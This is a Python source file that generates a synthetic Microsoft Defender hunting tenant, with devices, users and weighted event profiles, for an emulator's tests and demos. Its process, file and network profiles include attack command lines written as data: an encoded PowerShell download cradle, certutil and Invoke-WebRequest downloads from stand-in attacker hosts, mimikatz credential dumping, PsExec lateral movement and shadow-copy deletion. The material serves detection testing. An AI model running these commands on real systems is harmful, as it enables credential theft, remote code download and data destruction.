"""The emulator's deterministic synthetic tenant: devices, users, hunting tables and incidents.

Everything is derived from ``(seed, now, days, events_per_day, incidents)``: two builds with the
same arguments give byte-identical tables and incidents, whatever DuckDB's thread count.

* **Devices and users** (50 and 80) and **incidents** come from ``random.Random(seed)`` in Python;
  they are few.
* **Event rows** are generated inside DuckDB, vectorised: ``range()`` gives a row index ``i`` and
  every pseudo-random choice is ``hash(i, seed, '<table>/<salt>') % n``. DuckDB's ``random()`` is
  not used: its sequence depends on the thread layout. Choices that must agree (a file name with
  its path, hash and parent process) come from one weighted *profile* row, joined by a hash-picked
  slot.
* Timestamps are tz-aware UTC with microseconds, spread over ``[now - days, now)``: day slot ``d``
  holds exactly the rows ``i`` with ``i // per_day == d``, 70 % of them in 07:00-19:00 UTC.
  Rows are inserted ordered by ``(Timestamp, i)``.

Rows per day, with ``N = events_per_day``:

* DeviceProcessEvents, DeviceNetworkEvents, DeviceFileEvents, EmailEvents (:data:`FULL_TABLES`):
  ``N`` each.
* The other event tables: ``round(N * TABLE_FRACTIONS[table])``, i.e. DeviceLogonEvents 0.2,
  EmailUrlInfo 0.2, DeviceEvents 0.1, DeviceRegistryEvents 0.1, DeviceImageLoadEvents 0.1,
  EmailAttachmentInfo 0.1, IdentityLogonEvents 0.1, CloudAppEvents 0.1, UrlClickEvents 0.05,
  IdentityDirectoryEvents 0.02.
* DeviceInfo and DeviceNetworkInfo: one row per device per day; IdentityInfo: one per user per day.
* AlertInfo and AlertEvidence: one row per alert, and per evidence item, of the incidents.

``events_per_day=0`` leaves every table but AlertInfo and AlertEvidence empty (golden tests load
their own rows with :func:`insert_rows`; they pass ``incidents=0`` to get those empty too).

Incidents and their alerts are in the Graph shape (defender-api.md sections 3.2 and 3.5); their
timestamps are strings with 0 to 7 fractional digits, as the service sends them, never later than
``now``. AlertInfo and AlertEvidence hold exactly the incidents' alerts and evidence, with the
tenant's device ids, names and accounts, so hunting joins with the Device tables work.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import uuid
from collections.abc import Mapping, Sequence
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import duckdb

from airflow_provider_mtp.common.ticks import TICKS_PER_SECOND as _TICKS_PER_SECOND
from airflow_provider_mtp.common.ticks import format_ticks as _format_ticks
from airflow_provider_mtp.common.ticks import instant_ticks
from airflow_provider_mtp.emulator.schema import DUCKDB_TYPES, table_schemas

# --------------------------------------------------------------------------------------------------
# Sizes and shares
# --------------------------------------------------------------------------------------------------

#: The four large tables: ``events_per_day`` rows per day each.
FULL_TABLES: tuple[str, ...] = (
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceFileEvents",
    "EmailEvents",
)

#: Rows per day of the other event tables, as a fraction of ``events_per_day``.
TABLE_FRACTIONS: dict[str, float] = {
    "DeviceLogonEvents": 0.2,
    "DeviceEvents": 0.1,
    "DeviceRegistryEvents": 0.1,
    "DeviceImageLoadEvents": 0.1,
    "EmailAttachmentInfo": 0.1,
    "EmailUrlInfo": 0.2,
    "UrlClickEvents": 0.05,
    "IdentityLogonEvents": 0.1,
    "IdentityDirectoryEvents": 0.02,
    "CloudAppEvents": 0.1,
}

#: Tables with one row per device (or user) per day, when ``events_per_day`` is not 0.
PER_DEVICE_TABLES: tuple[str, ...] = ("DeviceInfo", "DeviceNetworkInfo")
PER_USER_TABLES: tuple[str, ...] = ("IdentityInfo",)

DOMAIN = "contoso.com"
NETBIOS_DOMAIN = "CONTOSO"
#: Where the office NATs to (TEST-NET-1); attacker infrastructure lives in the other two TEST-NETs.
OFFICE_EGRESS_IP = "192.0.2.10"
DC_IPS = ("10.0.0.10", "10.0.0.11")

_DAY_US = 86_400_000_000
#: .NET ticks (100 ns since 0001-01-01) at the Unix epoch: alert ids embed .NET ticks.
_DOTNET_EPOCH_TICKS = 621_355_968_000_000_000
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)

# --------------------------------------------------------------------------------------------------
# Devices and users
# --------------------------------------------------------------------------------------------------

#: Workstation groups: name prefix, count, department of their users, RBAC group.
WORKSTATION_GROUPS: tuple[tuple[str, int, str], ...] = (
    ("ws-fin", 6, "Finance"),
    ("ws-hr", 4, "Human Resources"),
    ("ws-eng", 10, "Engineering"),
    ("ws-sales", 6, "Sales"),
    ("ws-mkt", 3, "Marketing"),
    ("ws-exec", 2, "Executive"),
    ("ws-it", 3, "IT"),
    ("ws-dev", 4, "Engineering"),
)
#: Servers: name, OS platform, role (for DeviceInfo), fixed address (DCs are referenced by IP).
SERVERS: tuple[tuple[str, str, str], ...] = (
    ("srv-dc-01", "WindowsServer2022", "DomainController"),
    ("srv-dc-02", "WindowsServer2019", "DomainController"),
    ("srv-file-01", "WindowsServer2022", "FileServer"),
    ("srv-sql-01", "WindowsServer2019", "SqlServer"),
    ("srv-sql-02", "WindowsServer2022", "SqlServer"),
    ("srv-web-01", "WindowsServer2022", "WebServer"),
    ("srv-web-02", "WindowsServer2019", "WebServer"),
    ("srv-exch-01", "WindowsServer2019", "ExchangeServer"),
    ("srv-app-01", "WindowsServer2022", "ApplicationServer"),
    ("srv-backup-01", "WindowsServer2022", "BackupServer"),
    ("lnx-web-01", "Linux", "WebServer"),
    ("lnx-db-01", "Linux", "DatabaseServer"),
)
#: OS platform -> (version, build, client version).
OS_DETAILS: dict[str, tuple[str, int | None, str]] = {
    "Windows11": ("24H2", 26100, "10.8760.26100.3775"),
    "Windows10": ("22H2", 19045, "10.8760.19045.5737"),
    "WindowsServer2022": ("21H2", 20348, "10.8760.20348.3453"),
    "WindowsServer2019": ("1809", 17763, "10.8760.17763.7136"),
    "Linux": ("Ubuntu 22.04", None, "101.25022.0002"),
}
DEVICE_MODELS: tuple[tuple[str, str], ...] = (
    ("Dell Inc.", "Latitude 7440"),
    ("LENOVO", "ThinkPad T14 Gen 4"),
    ("HP", "EliteBook 840 G10"),
    ("Microsoft Corporation", "Surface Laptop 5"),
)
RISK_SCORES: tuple[str, ...] = ("none", "low", "low", "medium", "medium", "high")

FIRST_NAMES: tuple[str, ...] = (
    "Amelia", "Noah", "Olivia", "Liam", "Emma", "Mateo", "Sofia", "Lucas", "Isabella", "Ethan",
    "Mia", "Arjun", "Chloe", "Kenji", "Grace", "Omar", "Hannah", "Diego", "Leah", "Ravi",
    "Nora", "Samuel", "Zoe", "Tomas", "Aisha", "Felix", "Maya", "Jonas", "Priya", "Hugo",
)  # fmt: skip
LAST_NAMES: tuple[str, ...] = (
    "Hart", "Okafor", "Silva", "Nguyen", "Keller", "Rossi", "Patel", "Jensen", "Moreau", "Kowalski",
    "Tanaka", "Fischer", "Haddad", "Lindqvist", "Murphy", "Costa", "Novak", "Sato", "Brennan", "Vargas",
    "Ibrahim", "Weber", "Larsen", "Dubois", "Chen", "Schmidt", "Romero", "Walsh", "Ahmed", "Berg",
)  # fmt: skip
CITIES: tuple[tuple[str, str], ...] = (
    ("Seattle", "US"),
    ("New York", "US"),
    ("London", "GB"),
    ("Berlin", "DE"),
    ("Singapore", "SG"),
)
JOB_TITLES: dict[str, tuple[str, ...]] = {
    "Finance": ("Accountant", "Financial Analyst", "Controller"),
    "Human Resources": ("HR Generalist", "Recruiter"),
    "Engineering": ("Software Engineer", "Senior Software Engineer", "DevOps Engineer"),
    "Sales": ("Account Executive", "Sales Manager"),
    "Marketing": ("Marketing Specialist", "Content Designer"),
    "Executive": ("Chief Executive Officer", "Chief Financial Officer"),
    "IT": ("Systems Administrator", "Helpdesk Technician"),
    "Security Operations": ("SOC Analyst", "Incident Responder"),
}
#: Accounts with their own names: (account name, display name, department, title, RID).
SPECIAL_ACCOUNTS: tuple[tuple[str, str, str, str, int], ...] = (
    ("administrator", "Administrator", "IT", "Built-in account", 500),
    ("svc-backup", "Backup Service", "IT", "Service account", 1601),
    ("svc-sql", "SQL Service", "IT", "Service account", 1602),
    ("svc-web", "Web Service", "IT", "Service account", 1603),
)
USER_COUNT = 80
SOC_ANALYSTS = 4

# --------------------------------------------------------------------------------------------------
# Event profiles: one row of a profile table fixes the columns that must agree. ``weight`` is its
# share; ``{user}``, ``{n}`` and ``{host}`` in templates become the row's account, a small number and
# another device. Weights of suspicious rows are small so demo hunts find a handful per day.
# --------------------------------------------------------------------------------------------------

_STAGE2 = "IEX (New-Object Net.WebClient).DownloadString('http://evil-c2.example.net/stage2.ps1')"
#: PowerShell's -EncodedCommand takes base64 of UTF-16LE text.
ENCODED_STAGE2 = base64.b64encode(_STAGE2.encode("utf-16-le")).decode("ascii")

_SYS32 = "C:\\Windows\\System32\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _proc(
    file: str,
    path: str,
    cmd: str,
    parent: str,
    parent_path: str,
    company: str,
    weight: int,
    *,
    account: str = "user",
    integrity: str = "Medium",
    extra: str = "",
) -> dict[str, Any]:
    return {
        "file": file,
        "path": path,
        "cmd": cmd,
        "parent": parent,
        "parent_path": parent_path,
        "company": company,
        "account": account,
        "integrity": integrity,
        "extra": extra,
        "weight": weight,
    }


_MS = "Microsoft Corporation"
_EXPLORER = ("explorer.exe", "C:\\Windows\\explorer.exe")
#: DeviceProcessEvents: the created process, its parent, and who ran it.
PROCESS_PROFILES: tuple[dict[str, Any], ...] = (
    _proc("svchost.exe", _SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", _SYS32 + "services.exe", _MS, 220, account="system", integrity="System"),
    _proc("conhost.exe", _SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "cmd.exe", _SYS32 + "cmd.exe", _MS, 120),
    _proc("cmd.exe", _SYS32 + "cmd.exe", 'cmd.exe /c "C:\\Program Files\\Contoso\\Agent\\healthcheck.bat"', *_EXPLORER, _MS, 80),
    _proc("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle={n}', *_EXPLORER, "Google LLC", 140),
    _proc("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n}', *_EXPLORER, _MS, 120),
    _proc("OUTLOOK.EXE", _OFFICE + "OUTLOOK.EXE", '"OUTLOOK.EXE" /recycle', *_EXPLORER, _MS, 70),
    _proc("EXCEL.EXE", _OFFICE + "EXCEL.EXE", '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\budget-{n}.xlsx"', *_EXPLORER, _MS, 50),
    _proc("WINWORD.EXE", _OFFICE + "WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q{n}-report.docx"', *_EXPLORER, _MS, 50),
    _proc("ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe", '"ms-teams.exe" msteams:system-initiated', *_EXPLORER, _MS, 60),
    _proc("powershell.exe", _PS, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Contoso\\inventory.ps1", "svchost.exe", _SYS32 + "svchost.exe", _MS, 40, account="system", integrity="System"),
    _proc("powershell.exe", _PS, "powershell.exe Get-Service | Where-Object Status -eq 'Running'", "cmd.exe", _SYS32 + "cmd.exe", _MS, 15),
    _proc("taskhostw.exe", _SYS32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", "svchost.exe", _SYS32 + "svchost.exe", _MS, 40),
    _proc("SearchProtocolHost.exe", _SYS32 + "SearchProtocolHost.exe", '"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}', "SearchIndexer.exe", _SYS32 + "SearchIndexer.exe", _MS, 40, account="system", integrity="System"),
    _proc("WmiPrvSE.exe", _SYS32 + "wbem\\WmiPrvSE.exe", "WmiPrvSE.exe -Embedding", "svchost.exe", _SYS32 + "svchost.exe", _MS, 30, account="system", integrity="System"),
    _proc("RuntimeBroker.exe", _SYS32 + "RuntimeBroker.exe", "RuntimeBroker.exe -Embedding", "svchost.exe", _SYS32 + "svchost.exe", _MS, 30),
    _proc("notepad.exe", _SYS32 + "notepad.exe", '"notepad.exe" C:\\Users\\{user}\\Desktop\\notes-{n}.txt', *_EXPLORER, _MS, 20),
    _proc("git.exe", "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch origin --prune", "Code.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "The Git Development Community", 20),
    _proc("python.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe", "python.exe -m pytest tests -q", "cmd.exe", _SYS32 + "cmd.exe", "Python Software Foundation", 10),
    _proc("whoami.exe", _SYS32 + "whoami.exe", "whoami /all", "cmd.exe", _SYS32 + "cmd.exe", _MS, 3),
    _proc("net.exe", _SYS32 + "net.exe", 'net group "Domain Admins" /domain', "cmd.exe", _SYS32 + "cmd.exe", _MS, 2),
    _proc("nltest.exe", _SYS32 + "nltest.exe", "nltest /dclist:contoso.com", "cmd.exe", _SYS32 + "cmd.exe", _MS, 1),
    _proc("powershell.exe", _PS, f"powershell.exe -NoP -W Hidden -EncodedCommand {ENCODED_STAGE2}", "WINWORD.EXE", _OFFICE + "WINWORD.EXE", _MS, 2, extra='{"ParentMacro":true}'),
    _proc("powershell.exe", _PS, 'powershell.exe -nop -c "Invoke-WebRequest -Uri http://malware-drop.example.org/p.exe -OutFile C:\\Users\\Public\\p.exe"', "cmd.exe", _SYS32 + "cmd.exe", _MS, 1),
    _proc("mimikatz.exe", "C:\\Users\\{user}\\Downloads\\mimikatz.exe", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "cmd.exe", _SYS32 + "cmd.exe", "gentilkiwi (Benjamin DELPY)", 1, integrity="High"),
    _proc("Mimikatz.EXE", "C:\\Users\\Public\\Mimikatz.EXE", 'Mimikatz.EXE "lsadump::dcsync /user:krbtgt" exit', "powershell.exe", _PS, "gentilkiwi (Benjamin DELPY)", 1, integrity="High"),
    _proc("PsExec.exe", "C:\\Tools\\PsExec.exe", "PsExec.exe \\\\{host} -accepteula -s cmd.exe", "cmd.exe", _SYS32 + "cmd.exe", "Sysinternals - www.sysinternals.com", 1, integrity="High"),
    _proc("psexec.exe", "C:\\Users\\{user}\\Downloads\\psexec.exe", "psexec.exe \\\\{host} -u CONTOSO\\administrator cmd.exe", "powershell.exe", _PS, "Sysinternals - www.sysinternals.com", 1, integrity="High"),
    _proc("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe", _SYS32 + "services.exe", "Sysinternals", 1, account="system", integrity="System"),
    _proc("certutil.exe", _SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://evil-c2.example.net/beacon.dll C:\\Users\\Public\\beacon.dll", "cmd.exe", _SYS32 + "cmd.exe", _MS, 1),
    _proc("rundll32.exe", _SYS32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\beacon.dll,Start", "powershell.exe", _PS, _MS, 1),
    _proc("schtasks.exe", _SYS32 + "schtasks.exe", 'schtasks.exe /create /tn "OneDrive Update" /tr C:\\Users\\Public\\updater.exe /sc onlogon /f', "powershell.exe", _PS, _MS, 1, integrity="High"),
    _proc("vssadmin.exe", _SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe", _SYS32 + "cmd.exe", _MS, 1, integrity="High"),
)  # fmt: skip


def _dest(
    url: str, ip: str, port: int, proto: str, proc: str, weight: int, kind: str = "out"
) -> dict[str, Any]:
    return {"url": url, "ip": ip, "port": port, "proto": proto, "proc": proc, "kind": kind, "weight": weight}


#: DeviceNetworkEvents: ``kind`` ``out`` (public), ``internal`` (to another device), ``in`` (from one).
NETWORK_DESTINATIONS: tuple[dict[str, Any], ...] = (
    _dest("login.microsoftonline.com", "20.190.151.68", 443, "Tcp", "msedge.exe", 60),
    _dest("outlook.office365.com", "52.96.165.18", 443, "Tcp", "OUTLOOK.EXE", 60),
    _dest("teams.microsoft.com", "52.113.194.132", 443, "Tcp", "ms-teams.exe", 50),
    _dest("contoso.sharepoint.com", "13.107.136.9", 443, "Tcp", "msedge.exe", 40),
    _dest("www.google.com", "142.250.74.36", 443, "Tcp", "chrome.exe", 50),
    _dest("github.com", "140.82.121.4", 443, "Tcp", "git.exe", 20),
    _dest("ctldl.windowsupdate.com", "93.184.221.240", 80, "Tcp", "svchost.exe", 30),
    _dest("settings-win.data.microsoft.com", "20.42.65.92", 443, "Tcp", "svchost.exe", 30),
    _dest("wdcp.microsoft.com", "20.10.31.115", 443, "Tcp", "MsMpEng.exe", 20),
    _dest("time.windows.com", "168.61.215.74", 123, "Udp", "svchost.exe", 10),
    _dest("", "", 445, "Tcp", "System", 40, "internal"),
    _dest("", "", 88, "Tcp", "lsass.exe", 30, "internal"),
    _dest("", "", 389, "Tcp", "lsass.exe", 20, "internal"),
    _dest("", "", 3389, "Tcp", "mstsc.exe", 5, "internal"),
    _dest("", "", 445, "Tcp", "System", 20, "in"),
    _dest("", "", 3389, "Tcp", "svchost.exe", 5, "in"),
    _dest("", "", 5985, "Tcp", "svchost.exe", 3, "in"),
    _dest("evil-c2.example.net", "203.0.113.66", 443, "Tcp", "rundll32.exe", 2),
    _dest("cdn.evilupdate.example.com", "198.51.100.23", 8080, "Tcp", "powershell.exe", 1),
    _dest("malware-drop.example.org", "203.0.113.10", 80, "Tcp", "certutil.exe", 1),
    _dest("", "203.0.113.99", 4444, "Tcp", "powershell.exe", 1),
)

#: Outbound connection outcomes (inbound rows are always ``InboundConnectionAccepted``).
NETWORK_ACTIONS: tuple[str, ...] = ("ConnectionSuccess",) * 17 + (
    "ConnectionFailed",
    "ConnectionFailed",
    "ConnectionAttempt",
)


def _file(
    name: str, folder: str, proc: str, weight: int, *, origin: str = "", account: str = "user"
) -> dict[str, Any]:
    return {
        "name": name,
        "folder": folder,
        "proc": proc,
        "origin": origin,
        "account": account,
        "weight": weight,
    }


_USER_HOME = "C:\\Users\\{user}\\"
#: DeviceFileEvents: file name and folder templates and the process that wrote them.
FILE_PROFILES: tuple[dict[str, Any], ...] = (
    _file("Q{n}-report.docx", _USER_HOME + "Documents\\", "WINWORD.EXE", 30),
    _file("budget-{n}.xlsx", _USER_HOME + "Documents\\", "EXCEL.EXE", 25),
    _file(
        "invoice_{n}.pdf",
        _USER_HOME + "Downloads\\",
        "msedge.exe",
        15,
        origin="https://billing.fabrikam.example/invoices",
    ),
    _file(
        "setup-{n}.msi",
        _USER_HOME + "Downloads\\",
        "chrome.exe",
        5,
        origin="https://downloads.tailspintoys.example/setup",
    ),
    _file("~WRL{n}.tmp", _USER_HOME + "AppData\\Local\\Temp\\", "WINWORD.EXE", 40),
    _file(
        "f_{n}",
        _USER_HOME + "AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\",
        "msedge.exe",
        60,
    ),
    _file("{n}.etl", "C:\\Windows\\System32\\LogFiles\\WMI\\", "svchost.exe", 40, account="system"),
    _file(
        "agent-{n}.log", "C:\\ProgramData\\Contoso\\Agent\\Logs\\", "ContosoAgent.exe", 30, account="system"
    ),
    _file(
        "mimikatz.exe",
        _USER_HOME + "Downloads\\",
        "msedge.exe",
        1,
        origin="http://malware-drop.example.org/mimikatz_trunk.zip",
    ),
    _file(
        "beacon.dll", "C:\\Users\\Public\\", "certutil.exe", 1, origin="http://evil-c2.example.net/beacon.dll"
    ),
    _file("invoice_{n}.pdf.exe", _USER_HOME + "Downloads\\", "OUTLOOK.EXE", 1),
    _file("README-DECRYPT.txt", _USER_HOME + "Documents\\", "svch0st.exe", 1),
)
FILE_ACTIONS: tuple[str, ...] = (
    ("FileCreated",) * 12 + ("FileModified",) * 5 + ("FileDeleted",) * 2 + ("FileRenamed",)
)

_AUTH_PASS = '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}'
_AUTH_FAIL = '{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}'
_AUTH_INTERNAL = '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"other"}'


def _mail(
    kind: str,
    sender: str,
    name: str,
    subject: str,
    url: str,
    weight: int,
    *,
    ip: str = "40.107.22.55",
    threats: str = "",
    action: str = "Delivered",
    location: str = "Inbox/folder",
    auth: str = _AUTH_PASS,
    methods: str = "",
    bcl: int = 0,
) -> dict[str, Any]:
    return {
        "kind": kind,
        "sender": sender,
        "sender_name": name,
        "subject": subject,
        "url": url,
        "ip": ip,
        "threats": threats,
        "action": action,
        "location": location,
        "auth": auth,
        "methods": methods,
        "bcl": bcl,
        "weight": weight,
    }


_PHISH_URL = "https://login.micros0ft-security.example/verify?u={n}"
#: EmailEvents: ``kind`` ``inbound`` (sender below, recipient a user), ``outbound`` (a user to the
#: sender below), ``intra`` (user to user).
EMAIL_PROFILES: tuple[dict[str, Any], ...] = (
    _mail("inbound", "newsletter@news.fabrikam.example", "Fabrikam News", "Your weekly digest #{n}", "https://news.fabrikam.example/digest/{n}", 20, bcl=6),
    _mail("inbound", "billing@fabrikam.example", "Fabrikam Billing", "Invoice {n} from Fabrikam", "https://billing.fabrikam.example/invoices/{n}", 6),
    _mail("inbound", "billing@fabrikam.example", "Fabrikam Billing", "Invoices attached", "https://billing.fabrikam.example/invoices", 3),
    _mail("inbound", "noreply@github.com", "GitHub", "[contoso/platform] PR #{n}: fix flaky test", "https://github.com/contoso/platform/pull/{n}", 15, ip="192.30.252.205"),
    _mail("inbound", "partner@tailspintoys.example", "Tailspin Toys", "Re: Contract renewal {n}", "https://tailspintoys.example/contracts/{n}", 15),
    _mail("inbound", "promo@deals.example.net", "Deals", "You won a {n} dollar gift card", "http://deals.example.net/claim/{n}", 6, ip="198.51.100.140", threats="Spam", action="Junked", location="Junk folder", auth=_AUTH_FAIL, methods='{"Spam":["Mixed analysis detection"]}', bcl=8),
    _mail("inbound", "it-support@micros0ft-security.example", "IT Support", "Action required: verify your mailbox", _PHISH_URL, 2, ip="203.0.113.45", threats="Phish", auth=_AUTH_FAIL, methods='{"Phish":["URL malicious reputation"]}'),
    _mail("inbound", "it-support@micros0ft-security.example", "IT Support", "Action required: verify your mailbox", _PHISH_URL, 2, ip="203.0.113.45", threats="Phish", action="Blocked", location="Quarantine", auth=_AUTH_FAIL, methods='{"Phish":["URL detonation reputation"]}'),
    _mail("inbound", "docs@sharepoint-files.example", "SharePoint", "{user} shared 'Payroll Q{n}' with you", "https://sharepoint-files.example/s/payroll-{n}", 1, ip="203.0.113.46", threats="Phish", auth=_AUTH_FAIL, methods='{"Phish":["Impersonation brand"]}'),
    _mail("inbound", "accounts@fabrikam-billing.example", "Accounts Payable", "Overdue invoice {n}", "http://malware-drop.example.org/invoice-{n}", 1, ip="198.51.100.77", threats="Malware, Phish", action="Blocked", location="Quarantine", auth=_AUTH_FAIL, methods='{"Malware":["File detonation"],"Phish":["URL detonation"]}'),
    _mail("outbound", "partner@tailspintoys.example", "Tailspin Toys", "Re: Contract renewal {n}", "https://contoso.sharepoint.com/sites/sales/contract-{n}", 15, ip="40.107.22.60"),
    _mail("intra", "", "", "Team sync notes {n}", "https://contoso.sharepoint.com/sites/team/notes-{n}", 15, ip="", auth=_AUTH_INTERNAL),
)  # fmt: skip

#: EmailAttachmentInfo: attachment names by whether the message carried malware.
ATTACHMENTS_CLEAN: tuple[tuple[str, str], ...] = (
    ("invoice-{n}.pdf", "pdf"),
    ("contract-{n}.docx", "docx"),
    ("forecast-{n}.xlsx", "xlsx"),
    ("photo-{n}.png", "png"),
)
ATTACHMENTS_MALWARE: tuple[tuple[str, str], ...] = (
    ("invoice_{n}.pdf.exe", "exe"),
    ("Remittance-{n}.html", "html"),
)


def _logon(
    action: str,
    logon_type: str,
    proto: str,
    account: str,
    remote: str,
    weight: int,
    *,
    failure: str = "",
    proc: str = "lsass.exe",
) -> dict[str, Any]:
    return {
        "action": action,
        "logon_type": logon_type,
        "proto": proto,
        "failure": failure,
        "account": account,
        "remote": remote,
        "proc": proc,
        "weight": weight,
    }


#: DeviceLogonEvents: ``account`` ``user`` (a tenant user) or a local account name as spelt in the
#: logs (case variants on purpose); ``remote`` ``none``, ``internal`` or an attacker IP.
LOGON_PROFILES: tuple[dict[str, Any], ...] = (
    _logon("LogonSuccess", "Interactive", "Negotiate", "user", "none", 30, proc="winlogon.exe"),
    _logon("LogonSuccess", "Unlock", "Negotiate", "user", "none", 15, proc="winlogon.exe"),
    _logon("LogonSuccess", "CachedInteractive", "Negotiate", "user", "none", 3, proc="winlogon.exe"),
    _logon("LogonSuccess", "RemoteInteractive", "Negotiate", "user", "internal", 5),
    _logon("LogonSuccess", "Network", "Kerberos", "user", "internal", 20),
    _logon("LogonSuccess", "Service", "Negotiate", "svc-backup", "none", 6, proc="services.exe"),
    _logon("LogonSuccess", "Batch", "Negotiate", "svc-sql", "none", 3, proc="svchost.exe"),
    _logon("LogonFailed", "Network", "NTLM", "user", "internal", 6, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Interactive", "Negotiate", "user", "none", 4, failure="InvalidUserNameOrPassword", proc="winlogon.exe"),
    _logon("LogonFailed", "Network", "NTLM", "administrator", "203.0.113.50", 3, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "RemoteInteractive", "NTLM", "Administrator", "203.0.113.50", 2, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Network", "NTLM", "ADMINISTRATOR", "203.0.113.51", 1, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Network", "NTLM", "admin", "203.0.113.51", 1, failure="UserNameDoesNotExist"),
    _logon("LogonSuccess", "Network", "NTLM", "administrator", "203.0.113.50", 1),
    _logon("LogonAttempted", "RemoteInteractive", "Negotiate", "user", "internal", 1),
)  # fmt: skip


def _devent(
    action: str,
    weight: int,
    *,
    file: str = "",
    folder: str = "",
    url: str = "",
    proc: str = "",
    extra: str = "",
) -> dict[str, Any]:
    return {
        "action": action,
        "file": file,
        "folder": folder,
        "url": url,
        "proc": proc,
        "extra": extra,
        "weight": weight,
    }


#: DeviceEvents: the miscellaneous sensor events; AdditionalFields carries the details.
DEVICE_EVENT_PROFILES: tuple[dict[str, Any], ...] = (
    _devent("DnsQueryResponse", 20, proc="svchost.exe", extra='{"DnsQueryString":"login.microsoftonline.com","DnsQueryResult":[{"DnsQueryType":"A","Address":"20.190.151.68"}]}'),
    _devent("PowerShellCommand", 15, proc="powershell.exe", extra='{"Command":"Get-Service"}'),
    _devent("PowerShellCommand", 2, proc="powershell.exe", extra='{"Command":"Invoke-WebRequest"}'),
    _devent("NamedPipeEvent", 10, proc="chrome.exe", extra='{"PipeName":"\\\\Device\\\\NamedPipe\\\\mojo.{n}","FileOperation":"File opened"}'),
    _devent("ScheduledTaskCreated", 6, proc="svchost.exe", extra='{"TaskName":"\\\\Microsoft\\\\Windows\\\\UpdateOrchestrator\\\\Schedule Scan"}'),
    _devent("ScheduledTaskCreated", 1, proc="schtasks.exe", extra='{"TaskName":"\\\\OneDrive Update","TaskContent":"C:\\\\Users\\\\Public\\\\updater.exe"}'),
    _devent("BrowserLaunchedToOpenUrl", 10, url="https://contoso.sharepoint.com/sites/team/notes-{n}", proc="OUTLOOK.EXE"),
    _devent("UsbDriveMounted", 3, proc="svchost.exe", extra='{"DriveLetter":"E:","ProductName":"Ultra","Manufacturer":"SanDisk","SerialNumber":"4C530001{n}"}'),
    _devent("SmartScreenUrlWarning", 1, url="https://login.micros0ft-security.example/verify?u={n}", proc="msedge.exe", extra='{"Experience":"Phishing"}'),
    _devent("ExploitGuardNetworkProtectionBlocked", 1, url="evil-c2.example.net", proc="rundll32.exe", extra='{"ResponseCategory":"CustomBlockList"}'),
    _devent("AntivirusDetection", 1, file="mimikatz.exe", folder="C:\\Users\\{user}\\Downloads\\mimikatz.exe", proc="explorer.exe", extra='{"ThreatName":"HackTool:Win32/Mimikatz.D","WasRemediated":true,"WasExecutingWhileDetected":false}'),
    _devent("AntivirusDetection", 1, file="setup-{n}.exe", folder="C:\\Users\\{user}\\Downloads\\setup-{n}.exe", proc="chrome.exe", extra='{"ThreatName":"PUA:Win32/Presenoker","WasRemediated":true,"WasExecutingWhileDetected":false}'),
    _devent("AsrOfficeChildProcessBlocked", 1, file="powershell.exe", folder=_PS, proc="WINWORD.EXE", extra='{"IsAudit":false}'),
    _devent("OpenProcessApiCall", 1, file="lsass.exe", folder=_SYS32 + "lsass.exe", proc="mimikatz.exe", extra='{"DesiredAccess":5136}'),
    _devent("LdapSearch", 2, proc="powershell.exe", extra='{"SearchFilter":"(objectCategory=computer)","AttributeList":["name","operatingSystem"]}'),
    _devent("UserAccountCreated", 1, proc="net.exe", extra='{"AccountName":"helpdesk-tmp"}'),
)  # fmt: skip

_RUN_KEY = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


def _reg(action: str, key: str, name: str, vtype: str, data: str, proc: str, weight: int) -> dict[str, Any]:
    return {
        "action": action,
        "key": key,
        "name": name,
        "vtype": vtype,
        "data": data,
        "proc": proc,
        "weight": weight,
    }


#: DeviceRegistryEvents.
REGISTRY_PROFILES: tuple[dict[str, Any], ...] = (
    _reg("RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs", "MRUListEx", "Binary", "", "explorer.exe", 20),
